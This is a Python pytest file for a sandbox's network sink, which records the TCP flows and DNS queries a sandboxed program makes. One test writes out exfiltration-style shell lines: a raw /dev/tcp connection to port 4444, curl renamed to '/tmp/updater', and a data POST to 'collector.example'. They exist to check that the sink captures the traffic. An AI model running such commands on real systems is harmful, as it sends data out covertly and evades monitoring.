"""A run's network sink: every connection and DNS query seen from outside the sandbox."""

from __future__ import annotations

import json
import subprocess

import pytest

from assay.sandbox import InfrastructureError
from assay.sandbox.bwrap.backend import SANDBOX_GID, SANDBOX_UID, BwrapBackend
from assay.sandbox.bwrap.netsink import NetSink, parse_records
from assay.sandbox.interface import (
    NetworkLog,
    ObserverKind,
    ResourceLimits,
    SealedRequest,
    TraceSet,
)

pytestmark = pytest.mark.sandbox

LIMITS = ResourceLimits(
    cpu_budget_s=4.0,
    wall_backstop_s=30.0,
    memory_bytes=512 << 20,
    pids=32,
    workspace_bytes=8 << 20,
    result_bytes=1 << 16,
)

# A DNS query for `name`'s A record, built by hand, sent to a public resolver's address
# (the namespace answers it), and the address of the answer printed.
_HAND_QUERY = r"""
import socket, struct, sys
name = sys.argv[1].encode()
question = b"".join(bytes([len(p)]) + p for p in name.split(b".")) + b"\0"
query = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + question + struct.pack("!HH", 1, 1)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(3)
u.sendto(b"\x00\x01junk", ("9.9.9.9", 53))  # not a query: recorded, never answered
u.sendto(query, ("9.9.9.9", 53))
reply = u.recv(512)
print(socket.inet_ntoa(reply[-4:]))
"""


def _run(backend: BwrapBackend, script: str, *, observer: ObserverKind = ObserverKind.STRACE):
    request = SealedRequest(
        argv=("/bin/bash", "-c", script),
        limits=LIMITS,
        trace=TraceSet.FULL,
        network_sink=True,
        observer=observer,
    )
    return backend.run(request)


def test_every_kind_of_client_reaches_the_sink(private_backend: BwrapBackend) -> None:
    script = f"""
    exec 3<>/dev/tcp/203.0.113.9/4444; printf 'raw bytes' >&3; exec 3>&-
    cp /usr/bin/curl /tmp/updater
    /tmp/updater -s -m 5 --data-binary 'k=v' http://collector.example/in
    python3 -c '{_HAND_QUERY}' hand.example
    """
    observation = _run(private_backend, script)
    assert observation.exit_code == 0, observation.stderr.data
    network = observation.network
    raw = next(f for f in network.flows if f.port == 4444)
    assert (raw.address, raw.data, raw.http_method) == ("203.0.113.9", b"raw bytes", "")
    post = next(f for f in network.flows if f.http_method == "POST")
    assert (post.name, post.http_host, post.http_path) == (
        "collector.example",
        "collector.example",
        "/in",
    )
    assert post.data.endswith(b"\r\n\r\nk=v") and post.size == len(post.data)
    assert b"<body>OK</body>" in observation.stdout.data  # a plausible answer came back
    names = {q.name for q in network.queries}
    assert {"collector.example", "hand.example"} <= names
    handed = observation.stdout.data.decode().split()[-1]
    assert handed.startswith("198.18.") and handed != post.address  # one address per name
    assert not network.truncated


def test_the_sink_is_not_in_the_sandbox(private_backend: BwrapBackend) -> None:
    """No process the artifact can see is the sink: its pid namespace holds the run
    alone, and no command line there is the sink's."""
    script = "for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < $f; echo; done"
    observation = _run(private_backend, script, observer=ObserverKind.EBPF)
    lines = observation.stdout.data.decode().splitlines()
    assert lines and not any("SO_ORIGINAL_DST" in line or "netsink" in line for line in lines)


def test_a_sink_that_cannot_start_fails_the_run() -> None:
    with pytest.raises(InfrastructureError, match="network sink could not be set up"):
        NetSink("/nonexistent/python3", SANDBOX_UID, SANDBOX_GID)


def test_what_the_sink_writes_is_bounded(private_backend: BwrapBackend) -> None:
    """A flood past the records' cap is recorded as far as the cap, and said to be cut."""
    script = """python3 -c '
import socket
for n in range(48):
    s = socket.create_connection(("198.51.100.%d" % n, 443))
    s.sendall(bytes(range(256)) * 300)
    s.close()
'"""
    network = _run(private_backend, script).network
    assert network.truncated
    assert len(network.flows) == 48  # each connection still named, past the cap without data
    assert sum(len(f.data) for f in network.flows) <= 3 << 20


def test_unreadable_records_are_skipped() -> None:
    good = {"kind": "tcp", "t": 1.0, "address": "1.2.3.4", "port": 80, "size": 2, "data": "aGk="}
    lines = [
        b"not json",
        json.dumps({"kind": "tcp", "port": "80"}).encode(),
        json.dumps({**good, "data": "!!"}).encode(),
        json.dumps({"kind": "dns", "t": "x", "name": "a"}).encode(),
        json.dumps([1, 2]).encode(),
        json.dumps(good).encode(),
    ]
    network = parse_records(b"\n".join(lines))
    assert [f.data for f in network.flows] == [b"hi"] and network.queries == ()
    assert parse_records(b"") == NetworkLog()


def test_no_namespace_is_left_behind(private_backend: BwrapBackend) -> None:
    before = _namespaces()
    _run(private_backend, "true")
    assert _namespaces() <= before


def _namespaces() -> set[str]:
    listed = subprocess.run(["lsns", "-t", "net", "-n", "-o", "NS"], capture_output=True, text=True)
    return set(listed.stdout.split())
